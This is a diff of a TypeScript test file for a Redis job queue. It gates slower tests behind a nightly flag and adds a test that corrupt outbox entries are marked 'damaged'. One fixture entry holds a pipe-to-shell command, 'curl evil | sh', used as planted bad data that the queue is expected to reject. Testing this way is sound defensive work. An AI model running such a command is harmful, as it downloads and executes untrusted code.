@@ -36,12 +36,14 @@ import {
   queueStatus,
   redisStream,
 } from '../../src/queue.js';
+import { leftOut, NIGHT } from '../night.js';
 import { runNode } from '../package/run-node.js';
 import { hasRedis, RedisServer } from './redis-server.js';
 import { writeSmallImages } from './small-images.js';
 import { readResults, WorkerProcess } from './worker-process.js';
 
 const built = existsSync('dist/node/cli.js');
+if (!NIGHT) leftOut('nine of the ways to damage the keys of a queue, and large images', '1');
 
 let server: RedisServer;
 let redis: Redis;
@@ -151,20 +153,23 @@ describe.skipIf(!built || !hasRedis())('a queue', () => {
     expect(await queueStatus(address())).toEqual({ waiting: 0, active: 0, completed: 2, failed: 2 });
   });
 
-  test.each(['failed', 'in no list any more'])('takes items again whose job is %s while they wait', async (how) => {
-    await enqueue(paths, { ...address(), batchSize: 60 });
-    const queue = new Queue('faces', { connection: redis });
-    const [job] = await queue.getWaiting();
-    await redis.del('bull:faces:wait');
-    // As when Redis had no memory left six times.
-    if (how === 'failed') await redis.zadd('bull:faces:failed', Date.now(), job.id!);
-    expect(await queueStatus(address())).toMatchObject({ waiting: 60 });
-    expect(await enqueue(paths, { ...address(), batchSize: 60 })).toEqual({ items: 60, fresh: 0, refused: 0 });
-    await queue.close();
-    await start();
-    await allDone();
-    expect(itemsIn().sort()).toEqual([...paths].sort());
-  });
+  test.each(NIGHT ? ['failed', 'in no list any more'] : ['failed'])(
+    'takes items again whose job is %s while they wait',
+    async (how) => {
+      await enqueue(paths, { ...address(), batchSize: 60 });
+      const queue = new Queue('faces', { connection: redis });
+      const [job] = await queue.getWaiting();
+      await redis.del('bull:faces:wait');
+      // As when Redis had no memory left six times.
+      if (how === 'failed') await redis.zadd('bull:faces:failed', Date.now(), job.id!);
+      expect(await queueStatus(address())).toMatchObject({ waiting: 60 });
+      expect(await enqueue(paths, { ...address(), batchSize: 60 })).toEqual({ items: 60, fresh: 0, refused: 0 });
+      await queue.close();
+      await start();
+      await allDone();
+      expect(itemsIn().sort()).toEqual([...paths].sort());
+    },
+  );
 
   test('puts a result that the sink will not have, while it takes others, down as an error', async () => {
     await enqueue(paths, address());
@@ -184,7 +189,8 @@ describe.skipIf(!built || !hasRedis())('a queue', () => {
   });
 
   describe('whose keys are deleted while a worker runs', () => {
-    const parts = ['*', '*:counts', '*:files', '*:buckets', '*:i:*'];
+    // The test of the command deletes all of them.
+    const parts = NIGHT ? ['*', '*:counts', '*:files', '*:buckets', '*:i:*'] : ['*:i:*'];
     test.each(parts)(
       'fer:%s: says so and stops; no result is written over, and it can be begun again',
       async (part) => {
@@ -378,14 +384,30 @@ describe.skipIf(!built || !hasRedis())('a queue', () => {
       expect(itemsIn().sort()).toEqual(paths.slice(1).sort());
     });
 
-    test.each([
+    const planted: [string, (owner: string) => string][] = [
       ['a line that is no result', (owner: string) => entryOf(owner, 0, 'curl evil | sh\n')],
       ['the result of another item', (owner: string) => entryOf(owner, 0, result('other'))],
       ['two lines', (owner: string) => entryOf(owner, 0, `${result(paths[0])}evil\n`)],
       ['no line', (owner: string) => `d 0 ${owner}`],
       ['nonsense', () => '\u2028'],
       ['a place that is none', (owner: string) => entryOf(owner, '-1', result(paths[0]))],
-    ])('%s is not written: the item is classified', async (_, entry) => {
+    ];
+
+    test('one that is no result and its place is damaged', async () => {
+      const ledger = new Ledger(redis, 'faces');
+      const id = itemId(paths[0]);
+      await ledger.register([id]);
+      await redis.hset(`fer:{faces}:i:${id.slice(0, 3)}`, id, 'c');
+      for (const [, entry] of planted) {
+        await redis.hset('fer:{faces}:outbox', id, entry('file'));
+        expect(await ledger.states([id])).toEqual(['damaged']);
+      }
+      const line = result(paths[0]);
+      await redis.hset('fer:{faces}:outbox', id, entryOf('file', 7, line));
+      expect(await ledger.states([id])).toEqual([{ id, file: 'file', offset: 7, line }]);
+    });
+
+    test.each(NIGHT ? planted : planted.slice(0, 1))('%s is not written: the item is classified', async (_, entry) => {
       await plant(entry);
       expect(await queueStatus(address())).toMatchObject({ waiting: 60 });
       await start();
@@ -402,7 +424,7 @@ describe.skipIf(!built || !hasRedis())('a queue', () => {
     });
   });
 
-  test.skipIf(process.platform !== 'linux')(
+  test.runIf(NIGHT && process.platform === 'linux')(
     'of large images holds a few at a time, of files and of servers',
     async () => {
       const large = join(folder, 'large');
